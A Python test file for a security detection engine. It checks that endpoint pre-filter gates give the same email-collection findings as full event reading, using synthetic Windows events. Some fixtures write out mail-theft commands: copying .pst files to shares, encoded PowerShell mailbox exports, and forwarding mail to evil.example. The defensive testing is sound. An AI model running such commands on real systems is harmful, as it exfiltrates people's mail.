"""The endpoint gates (app/endpoint_gate.py) against the reader without them: the same
findings, output fields and job-inspector messages on every benchmark mix, every rule test
event in every shape, the 23,371 real Windows events and process creations and file events
built to slip past a word check (letters that fold onto ASCII, encoded commands, cmdlets,
upper case, CIM and classic names, a CIM folder and file name joined, XML-only events, values
past the length cut); the clauses they derive from rule documents; and, counted in steps,
that they spare the work they are for.
"""

import gzip
import json
import os
import base64

import pytest

from app.engine import Engine
from app.finding import output_fields
from app.normalise.windows_endpoint import (FILE_ACCESS, FILE_CHANGE, FILE_CREATE, GATED_PROCESS_FIELDS,
                                             PROCESS_CREATE, SHARE_ACCESS, normalise_windows_endpoint)
from app.endpoint_gate import endpoint_gate, necessary_clauses
from app.values import MAX_VALUE_CHARS
from tests.conftest import REPO, SHARED_DATASETS
from tests.test_optimisations_differential import MIXES, mix_records, rule_test_records
from tools.bench import make_records
from tools.step_count import count_steps


@pytest.fixture(scope="module")
def ungated():
    """The engine as shipped, with the gates taken out: every endpoint event read whole."""
    engine = Engine.load(REPO)
    engine.context.endpoint_gates = {}
    return engine


@pytest.fixture(scope="module")
def gated():
    engine = Engine.load(REPO)
    assert set(engine.context.endpoint_gates) == {PROCESS_CREATE, FILE_CREATE, FILE_ACCESS, SHARE_ACCESS, FILE_CHANGE}
    return engine


def _outcome(engine, record):
    findings = engine.findings(dict(record))
    return [finding.as_dict() for finding in findings], output_fields(findings, record)


def assert_same_outcomes(gated, ungated, records):
    fired = 0
    for record in records:
        with_gate = _outcome(gated, record)
        assert with_gate == _outcome(ungated, record), record
        fired += bool(with_gate[0])
    assert gated.problems.counts() == ungated.problems.counts()
    return fired


def _encoded(script):
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def _sysmon(command_line, image=r"C:\Windows\System32\cmd.exe", parent=r"C:\Windows\explorer.exe", **more):
    record = {"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
              "EventCode": "1", "Image": image, "CommandLine": command_line, "ParentImage": parent,
              "User": "CONTOSO\\bob", "Computer": "ws-01.contoso.com", "_time": "1795000000"}
    record.update(more)
    return record


# Process creations written to slip past a word check, each with the rule it fires (or None);
# the differential test requires the gate to agree either way, the next test that they fire.
COMMAND_LINE, AUTOMATION, SCRIPT_HOST = ("t1114_001_mail_file_command_line", "t1114_001_outlook_automation_script",
                                         "t1114_001_outlook_started_by_script_host")
AWKWARD_CASES = [
    (_sysmon(r'robocopy "C:\Users\bob\AppData\Local\Microsoft\Outlook" \\files\drop bob.ost'), COMMAND_LINE),
    (_sysmon(r"copy C:\mail\archive.PST \\files\drop"), COMMAND_LINE),                  # upper case
    (_sysmon("copy C:\\mail\\archive.p\u017ft \\\\files\\drop"), COMMAND_LINE),   # long s: (?i) reads it as s
    (_sysmon("copy C:\\mail\\archive.\u212aost x"), None),                            # Kelvin sign: no word
    (_sysmon("copy C:\\mail\\archive.\u0130st x"), None),                            # dotted capital I
    # The rule reads the command line, not the decoded script: no finding, with or without the gate.
    (_sysmon("powershell -enc " + _encoded("Copy-Item C:\\mail\\a.pst \\\\files\\drop")), None),
    (_sysmon("powershell.exe -EncodedCommand " + _encoded("$o = New-Object -ComObject Outlook.Application")),
     AUTOMATION),
    (_sysmon("powershell /e " + _encoded("New-MailboxExportRequest -Mailbox bob -FilePath \\\\srv\\x.pst")),
     "t1114_002_mailbox_export_request"),
    (_sysmon("powershell -c \"New-MailboxExportRequest -Mailbox bob -FilePath \\\\srv\\share\\bob\""),
     "t1114_002_mailbox_export_request"),
    (_sysmon("powershell -c \"Set-Mailbox bob -ForwardingSmtpAddress x@evil.example\""), "t1114_003_mailbox_forwarding"),
    (_sysmon("powershell -c \"sEt-MaIlBoX bob -ForwardingSmtpAddress x@evil.example\""), "t1114_003_mailbox_forwarding"),
    # The cmdlet regex reads `\u017f` as s, but no rule is indexed on what it then names.
    (_sysmon("powershell -c \"\u017fet-Mailbox bob -ForwardingSmtpAddress x@evil.example\""), None),
    (_sysmon("cscript //nologo mail.vbs Outlook.Application"), AUTOMATION),
    (_sysmon(r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"',
             image=r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
             parent=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"), SCRIPT_HOST),
    (_sysmon("OUTLOOK.EXE /recycle", image=r"C:\Office\OUTLOOK.EXE", parent=r"C:\Windows\explorer.exe"), None),
    (_sysmon("svc.exe a -tzip out.zip C:\\mail\\*.ost", image=r"C:\Temp\svc.exe", OriginalFileName="7z.exe"),
     COMMAND_LINE),
    (_sysmon("x " * (MAX_VALUE_CHARS // 2) + "C:\\mail\\late.pst"), None),   # the word past the length cut
    (_sysmon("notepad.exe C:\\Users\\bob\\notes.txt"), None),
    (_sysmon("", image="", parent="", process_name="outlook.exe", parent_process_name="wscript.exe"), SCRIPT_HOST),
    ({"sourcetype": "XmlWinEventLog", "EventCode": "4688", "NewProcessName": r"C:\Windows\System32\esentutl.exe",
      "CommandLine": r"esentutl.exe /y C:\Users\bob\AppData\Local\Comms\Unistore\data\3\x.dat /d y",
      "ParentProcessName": r"C:\Windows\System32\cmd.exe", "SubjectUserName": "bob", "SubjectDomainName": "CONTOSO"},
     COMMAND_LINE),
    ({"Processes.process_path": r"C:\Windows\System32\robocopy.exe",
      "Processes.process": r"robocopy C:\Users\bob\Documents\Outlook Files\ E:\ *.pst",
      "Processes.parent_process_path": r"C:\Windows\System32\cmd.exe", "Processes.dest": "ws-02"}, COMMAND_LINE),
    # XML only (Fast mode): html.unescape turns &#46; into the dot of .pst.
    ({"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
      "_raw": "<Event><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID>"
              "<Computer>ws-3</Computer></System><EventData><Data Name='Image'>C:\\Windows\\System32\\cmd.exe</Data>"
              "<Data Name='CommandLine'>cmd /c copy C:\\mail\\a&#46;pst \\\\files\\x</Data></EventData></Event>"},
     COMMAND_LINE),
    ({"sourcetype": "WinEventLog", "source": "WinEventLog:Security",
      "_raw": "12/01/2026 10:00:00 AM\nLogName=Security\nEventCode=4688\nComputerName=ws-4\nMessage=A new process "
              "has been created.\n\nNew Process Information:\n\tNew Process Name:\tC:\\Windows\\System32\\cmd.exe\n"
              "\tProcess Command Line:\tcmd /c copy C:\\mail\\b.ost \\\\files\\x\n"
              "\tCreator Process Name:\tC:\\Windows\\explorer.exe\n"}, COMMAND_LINE),
]

def _file_event(code, path, **more):
    record = {"sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational"
              if code == "11" else "XmlWinEventLog:Security", "EventCode": code, "Computer": "ws-01.contoso.com",
              "_time": "1795000000"}
    record["TargetFilename" if code == "11" else "ObjectName"] = path
    record.update(more)
    return record


WRITTEN, READ, SHARE, STORE = ("t1114_001_mail_file_written_outside_outlook", "t1114_001_mail_file_read",
                               "t1114_001_mail_file_share_access", "t1114_001_windows_mail_store_read")
AWKWARD_CASES += [
    (_file_event("11", r"C:\Temp\stolen.PST", Image=r"C:\Windows\System32\robocopy.exe"), WRITTEN),
    (_file_event("11", r"C:\Users\bob\AppData\Local\Microsoft\Outlook\bob.ost", Image=r"C:\Office\outlook.exe"),
     None),
    (_file_event("11", "C:\\Temp\\stolen.p\u017ft"), None),      # endswith compares lower(): no match either way
    (_file_event("4663", r"C:\Users\bob\Documents\Outlook Files\archive.pst", AccessList="%%4416",
                 ProcessName=r"C:\Windows\System32\cmd.exe", SubjectUserName="bob"), READ),
    (_file_event("4663", r"C:\Users\bob\notes.txt", AccessList="%%4416"), None),
    (_file_event("5145", r"mail\bob.ost", ShareName=r"\\*\C$", AccessList="%%4416", IpAddress="10.0.0.9"), SHARE),
    # CIM Filesystem: the folder in file_path and the name in file_name, joined by the reader.
    ({"Filesystem.file_path": r"C:\Users\bob\AppData\Local\Comms\Unistore", "Filesystem.file_name": "data",
      "Filesystem.action": "read", "Filesystem.dest": "ws-05"}, STORE),
    ({"Filesystem.file_path": r"C:\Exports", "Filesystem.file_name": "bob.pst", "Filesystem.action": "created",
      "Filesystem.process_path": r"C:\Windows\System32\robocopy.exe"}, WRITTEN),
    ({"Filesystem.file_path": r"C:\Exports\bob.pst", "Filesystem.action": "deleted"}, None),   # FileChange
]
AWKWARD_EVENTS = [record for record, _ in AWKWARD_CASES]


@pytest.mark.parametrize("source", MIXES + ("light", "rule_tests", "awkward"))
def test_gates_give_the_findings_of_the_whole_reader(gated, ungated, source):
    records = {"light": lambda: make_records(7, 3000, 0.05), "rule_tests": rule_test_records,
               "awkward": lambda: AWKWARD_EVENTS}.get(source, lambda: mix_records(source))()
    fired = assert_same_outcomes(gated, ungated, records)
    if source in ("light", "rule_tests", "awkward"):
        assert fired, "the records hold process creations that fire: the comparison is not vacuous"


def hayabusa_windows_events():
    """The 23,371 real Windows events and the near misses, as Splunk hands them over; skips without them."""
    folder = os.path.join(SHARED_DATASETS, "Yamato-Security__hayabusa-sample-evtx")
    records = []
    for name in ("evtx_pool.jsonl.gz", "near_miss_cases.jsonl.gz"):
        path = os.path.join(folder, name)
        if os.path.exists(path):
            with gzip.open(path, "rt", encoding="utf-8") as handle:
                records.extend(json.loads(line)["event"] for line in handle if line.strip())
    if not records:
        pytest.skip("the hayabusa sample events are not in ../shared/datasets")
    return records


def test_gates_give_the_findings_of_the_whole_reader_on_real_windows_events(gated, ungated):
    assert_same_outcomes(gated, ungated, hayabusa_windows_events())


def test_awkward_endpoint_events_fire_where_the_rules_say(gated):
    """Not only agreement: the cases the gate must let through do fire."""
    for record, rule_id in AWKWARD_CASES:
        fired = [finding.as_dict()["rule"] for finding in gated.findings(dict(record))]
        assert fired == ([rule_id] if rule_id else []), record


def _rules(*specs):
    class FakeRule:
        def __init__(self, spec):
            self.match_spec = spec
    return [FakeRule(spec) for spec in specs]


def test_clauses_follow_all_any_and_not():
    fields = GATED_PROCESS_FIELDS
    assert necessary_clauses({"all": [
        {"field": "operation", "equals": "ProcessCreate"},
        {"field": "extra.process_name", "equals": "Outlook.exe"},
        {"field": "extra.parent_process_name", "in": ["cmd.exe", "wscript.exe"]}]}, fields) == [
        frozenset({"outlook.exe"}), frozenset({"cmd.exe", "wscript.exe"})]
    assert necessary_clauses({"any": [
        {"field": "extra.command_line", "matches": r"(?i)\.(pst|ost)\b"},
        {"all": [{"field": "text", "contains_any": ["Outlook.Application", "GetNamespace"]},
                 {"field": "extra.process_name", "endswith_any": [".exe"]}]}]}, fields) == [
        frozenset({".pst", ".ost", ".exe"})]
    # An alternative with no words, an absence, a test of another field: no clause.
    assert necessary_clauses({"any": [{"field": "text", "contains_any": ["x.pst"]},
                                      {"field": "extra.command_line", "nonempty": True}]}, fields) == []
    assert necessary_clauses({"not": {"field": "text", "contains_any": ["x"]}}, fields) == []
    assert necessary_clauses({"field": "actor", "equals": "bob"}, fields) == []
    assert necessary_clauses({"field": "extra.command_line", "matches": "(?i).*"}, fields) == []
    # Words the joined facts cannot show as they are: non-ASCII, a line end, an empty operand.
    assert necessary_clauses({"field": "text", "contains_any": ["caf\u00e9"]}, fields) == []
    assert necessary_clauses({"field": "text", "contains_any": ["a\nb"]}, fields) == []
    assert necessary_clauses({"field": "extra.process_name", "in": ["", "cmd.exe"]}, fields) == []


def test_one_rule_without_words_turns_the_gate_off():
    worded = {"field": "extra.command_line", "contains_any": [".pst"]}
    assert endpoint_gate(_rules(worded), ["Set-Mailbox"], GATED_PROCESS_FIELDS) is not None
    assert endpoint_gate(_rules(worded, {"field": "extra.command_line", "nonempty": True}), ["Set-Mailbox"],
                               GATED_PROCESS_FIELDS) is None


def test_gate_answers_from_words_cmdlets_and_folding_letters():
    gate = endpoint_gate(_rules({"all": [{"field": "extra.process_name", "equals": "outlook.exe"},
                                                {"field": "extra.parent_process_name", "in": ["cmd.exe"]}]},
                                      {"field": "text", "matches": r"(?i)\.pst"}),
                               ["New-MailboxExportRequest"], GATED_PROCESS_FIELDS)
    assert not gate(("notepad x.txt", "c:\\notepad.exe", "notepad.exe", "", "", ""))
    assert not gate(("outlook.exe", "c:\\outlook.exe", "outlook.exe", "c:\\explorer.exe", "explorer.exe", ""))
    assert gate(("OUTLOOK.EXE", "C:\\OUTLOOK.EXE", "OUTLOOK.EXE", "C:\\cmd.exe", "CMD.EXE", ""))
    assert gate(("copy a.PST b", "", "", "", "", ""))
    assert gate(("copy a.p\u017ft b", "", "", "", "", ""))        # the regex matches it; lower() does not
    assert gate(("new-mailboxexportREQUEST -Mailbox x", "", "", "", "", ""))
    assert not gate(("copy a.p st b", "c:\\caf\u00e9.exe", "", "", "", ""))   # non-ASCII alone changes nothing
    verbless = endpoint_gate(_rules({"field": "text", "contains_any": [".pst"]}), ["Search"], GATED_PROCESS_FIELDS)
    assert verbless(("search x", "", "", "", "", "")) and not verbless(("find x", "", "", "", "", ""))


def test_shipped_rules_give_the_gates_their_words(gated):
    gates = gated.context.endpoint_gates
    words = {word for rule in gates[PROCESS_CREATE].rules for clause in rule for word in clause}
    assert {".pst", ".ost", "outlook.exe", "outlook.application"} <= words
    assert len(gates[PROCESS_CREATE].rules) == len(gated._by_operation["processcreate"])
    for operation in (FILE_CREATE, FILE_ACCESS, SHARE_ACCESS):
        assert all(set(rule[0]) <= {".pst", ".ost", "\\comms\\unistore\\data"} for rule in gates[operation].rules)
    assert gates[FILE_CHANGE].rules == ()   # no rule is tried on it: every such event is answered


# Each mix's endpoint events by the operation the reader gives them.
OPERATION_OF_CODE = {"1": PROCESS_CREATE, "4688": PROCESS_CREATE, "11": FILE_CREATE, "4663": FILE_ACCESS,
                     "5145": SHARE_ACCESS}


@pytest.mark.parametrize("source", ["light", "endpoint"])
def test_gates_spare_the_work_on_endpoint_events_without_findings(gated, ungated, source):
    """Counted in steps (lines run in app/), not timed: nearly every process creation and file
    event of the mix is answered by its gate, and the engine's work on them falls by more than
    a quarter (about a third when measured: what is left is recognising the event and reading
    its facts, which the gate needs; in seconds the saving is larger, the gate's searches
    being C calls)."""
    records = make_records(3, 400) if source == "light" else mix_records(source, 600)
    records = [record for record in records if record.get("EventCode") in OPERATION_OF_CODE]
    assert len(records) > 100
    gates = dict(gated.context.endpoint_gates)
    answers = []

    def counting(gate):
        def counted(facts):
            answers.append(gate(facts))
            return answers[-1]
        return counted
    gated.context.endpoint_gates = {operation: counting(gate) for operation, gate in gates.items()}
    try:
        gated_steps = sum(count_steps(gated.findings, dict(record))[1] for record in records)
    finally:
        gated.context.endpoint_gates = gates
    ungated_steps = sum(count_steps(ungated.findings, dict(record))[1] for record in records)
    assert len(answers) == len(records)
    assert sum(answers) < 0.1 * len(answers)
    assert gated_steps < 0.75 * ungated_steps, (gated_steps, ungated_steps)


def test_reader_without_the_engine_reads_every_endpoint_event():
    """A caller without an engine's context (no gates) gets the event as before."""
    from app.normalise import NormaliseContext
    context = NormaliseContext(frozenset(), None, {}, None)
    (event,) = normalise_windows_endpoint(_sysmon("notepad.exe x.txt", image=r"C:\Windows\notepad.exe"), context)
    assert event.extra["process_name"] == "notepad.exe"
    (event,) = normalise_windows_endpoint({"EventCode": "11", "sourcetype": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
                                           "TargetFilename": "C:\\x\\notes.txt", "Image": "C:\\n.exe"}, context)
    assert event.extra["file_name"] == "notes.txt"
